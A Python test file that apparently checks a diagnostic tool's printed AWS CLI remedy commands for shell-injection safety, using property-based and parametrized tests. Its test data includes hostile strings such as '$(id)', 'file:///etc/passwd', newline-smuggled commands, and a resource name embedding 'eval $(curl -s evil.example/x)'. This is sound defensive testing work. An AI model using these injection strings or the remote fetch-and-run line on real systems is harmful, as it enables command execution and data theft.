"""Whatever others write, a printed command does what it was meant to do, and nothing else."""

from __future__ import annotations

import json
import re
from functools import cache
from typing import Any, NamedTuple

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from canary.diagnose import diagnose
from canary.model import Diagnosis
from tests.canary.support import platforms as p
from tests.canary.support.operator import shell
from tests.canary.support.operator.aws_cli import arrived
from tests.canary.support.operator.intended import Noted, as_it_arrives, noted
from tests.canary.support.operator.scenes import HEALTHY, NAMES, SCENES, SECRET
from tests.canary.support.operator.texts import hostile, placed, swapped, texts

FEW, MANY = 60, 2000
PROFILES = [
    pytest.param(FEW, id="few"),
    pytest.param(MANY, id="many", marks=[pytest.mark.sweep, pytest.mark.timeout(1800)]),
]
KEPT = {"", "us-east-1"}
"""The AWS CLI itself refuses a region that cannot be one, before it makes a request."""
OWN = {"python -m canary permissions"}
"""What a remedy prints beside the AWS CLI's commands."""
TAIL = re.compile(r"aws logs tail '?[\w./#-]+'? --region [\w-]+ --since 30m")
"""A command of the AWS CLI's second version, which is not here."""


class Scene(NamedTuple):
    """What a diagnosis gets, its texts that stand in commands, and all that others wrote."""

    given: tuple[Any, ...]
    shown: list[str]
    free: list[str]


def lines(found: tuple[Diagnosis, ...]) -> list[str]:
    remedies = [d.remedy for d in found]
    return [x for r in remedies for x in (*r.fix, *r.undo, *r.inspect, *r.verify)]


@cache
def scene(name: str) -> Scene:
    results, state, environment, before, now = SCENES[name]
    printed = lines(diagnose(results, state, environment, before, now).diagnoses)
    words = {w for line in printed for w in re.findall(r"[^\s\"']+", line)}
    free = set(texts((state, before))) - KEPT - {s.url for s in environment.services.values()}
    return Scene((results, state, environment, before), sorted(free & words), sorted(free))


@st.composite
def attacked(draw: st.DrawFn) -> tuple[str, dict[str, str]]:
    """Draw a scene, and hostile texts for some of its texts, to stand wherever these stand."""
    name = draw(st.sampled_from(sorted(SCENES)))
    found = scene(name)
    of = st.sampled_from
    shown = draw(st.lists(of(found.shown), min_size=1, max_size=4)) if found.shown else []
    others = draw(st.lists(of(found.free), max_size=2))
    return name, {old: draw(placed(old)) for old in sorted({*shown, *others})}


def faults_of(written: Noted, answer: str = "") -> list[object]:
    """Type lines; return what does not arrive at AWS as it was meant.

    `answer`: what a command within another one prints as a text of others.
    """
    typed = shell.typed(tuple(written), json.dumps({"Value": answer}))
    found: list[object] = [x for x in (typed.complaints, typed.made) if x]
    if len(typed.calls) != len(written):
        return [*found, "a line was not carried out"]
    for (line, meant), calls in zip(written.items(), typed.calls, strict=True):
        wanted = as_it_arrives(meant, answer)
        got = arrived(calls[-1]) if calls else None
        if got != (wanted if wanted.can_be else None) or len(calls) > 2:
            found.append((line, got, wanted))
    return found


def faults_of_entering(found: tuple[Diagnosis, ...], written: Noted, secret: str) -> list[object]:
    """Type the commands of decisions, and a secret where they ask for it; return what is wrong."""
    asking = [x for d in found if (x := d.remedy.decision_command)]
    if not asking:
        return []
    typed = shell.typed(asking, entered=secret)
    wrong: list[object] = [x for x in (typed.complaints, typed.made) if x]
    for line, calls in zip(asking, typed.calls, strict=True):
        (*words, option, source, read), *others = calls
        meant = as_it_arrives(next(w for x, w in written.items() if f"| {x} {option} " in line), "")
        meant.parameters["Value" if option == "--value" else "SecretString"] = "S"
        got = arrived([*words, f"{option}=S"])
        right = (meant if meant.can_be else None, "file:///dev/stdin", [])
        if (got, source, others) != right or secret not in read:
            wrong.append((line, got, meant, read))
    return wrong


@pytest.mark.parametrize("examples", PROFILES)
def test_a_line_does_what_it_was_meant_to_do(examples: int) -> None:
    right, hostile_ones = set[str](), set[str]()

    @settings(
        max_examples=examples, derandomize=examples == FEW, database=None, deadline=None,
        suppress_health_check=list(HealthCheck), phases=(Phase.generate, Phase.shrink),
    )  # fmt: skip
    @given(attacked(), hostile())
    def check(drawn: tuple[str, dict[str, str]], answer: str) -> None:
        name, new = drawn
        with noted() as written:
            state, environment, before = (swapped(x, new) for x in scene(name).given[1:])
            results = swapped(scene(name).given[0], new)
            found = diagnose(results, state, environment, before, p.NOW).diagnoses
        assert [x for x in lines(found) if x not in written and x not in OWN] == []
        assert [x for x in lines(found) if not x.isprintable()] == []
        untried = {x: w for x, w in written.items() if x not in right and not TAIL.fullmatch(x)}
        assert faults_of(untried, answer) == []
        assert faults_of_entering(found, written, "  it's $(id) %n ") == []
        right.update(x for x in untried if "$(" not in x)
        hostile_ones.update(x for x in untried if {*new.values()} & {*texts(written[x])})

    check()
    assert len(hostile_ones) > examples / 2, "hostile texts hardly reach a command"


@pytest.mark.parametrize(
    "answer", ["file:///etc/passwd", "http://127.0.0.1:9/", "-x", "a\n\n", "$(id)", "'; id; '",
               '"}', "\\", "[1]", "é\u202e"],
)  # fmt: skip
def test_the_earlier_value_of_a_parameter_comes_back_as_it_was(answer: str) -> None:
    with noted() as written:
        (found, *_) = diagnose(*SCENES["parameter-back"]).diagnoses
    puts = [x for x in (*found.remedy.fix, *found.remedy.undo) if " put-parameter " in x]
    assert len(puts) == 2
    assert faults_of({x: written[x] for x in puts}, answer) == []


@pytest.mark.parametrize("name", ["secret-gone", "parameter-gone", "key-refused-seen"])
@pytest.mark.parametrize(
    "text", ["a; unset VALUE", "$(id)", "file:///etc/passwd", "--x", "a'b\"", "a\nb"]
)
def test_a_secret_that_is_asked_for_is_stored_under_its_name(name: str, text: str) -> None:
    names = ("/redis/endpoint", "canary/valid", f"{SECRET}app-AbCdEf")
    results, state, environment, before = (
        swapped(x, {n: f"{n}{text}" if text == "a\nb" else text for n in names})
        for x in scene(name).given
    )
    with noted() as written:
        found = diagnose(results, state, environment, before, p.NOW).diagnoses
    assert any(d.remedy.decision_command for d in found)
    assert faults_of_entering(found, written, "  it's $(id) %n ") == []


@pytest.mark.parametrize("told", [True, False], ids=["rules of before", "no past"])
def test_a_name_that_reads_like_a_command_stays_a_text(told: bool) -> None:
    name = "web read -rs VALUE; eval $(curl -s evil.example/x); unset VALUE"
    before = swapped(HEALTHY, {"lb-registry": name})
    state = p.change(before, "security_groups", "sg-lb-registry", ingress=())
    url = f"https://registry.{NAMES.domain}/health"
    results = [p.failed("registry.health", "registry", p.none(url, "connect-timeout"))]
    past = before if told else None
    (found, *_) = diagnose(results, state, p.environment(NAMES), past, p.NOW).diagnoses
    assert name in f"{found.remedy.summary} {found.remedy.decision}"
    assert found.remedy.decision_command == ""
    assert [x for x in lines((found,)) if "VALUE" in x or "evil" in x] == []
    assert bool(found.remedy.fix) is told  # the group's rule is known, and what it admits


@pytest.mark.parametrize(
    ("line", "parameters"),
    [
        ("aws ssm get-parameter --region r --name file:///etc/hostname", {"name": "x"}),
        ("aws ssm get-parameter --region r --name x; touch made", {"name": "x"}),
        ("aws ssm get-parameter --region r --name $(echo x)", {"name": "$(echo x)"}),
        ("aws ssm get-parameter --region r --name 'x", {"name": "'x"}),
        ("aws ssm get-parameter --region r --name --profile", {"name": "--profile"}),
        ("aws ssm get-parameter --region r --name x > made", {"name": "x"}),
        ("aws ssm get-parameter --region s --name x", {"name": "x"}),
        ("aws ssm get-parameter --region r --name x\naws ssm get-parameter", {"name": "x"}),
    ],
)
def test_a_line_that_does_something_else_is_seen(line: str, parameters: dict[str, str]) -> None:
    assert faults_of({line: ("ssm", "get-parameter", "r", parameters)}) != []
    plain = "aws ssm get-parameter --region r --name x"
    assert faults_of({plain: ("ssm", "get-parameter", "r", {"name": "x"})}) == []
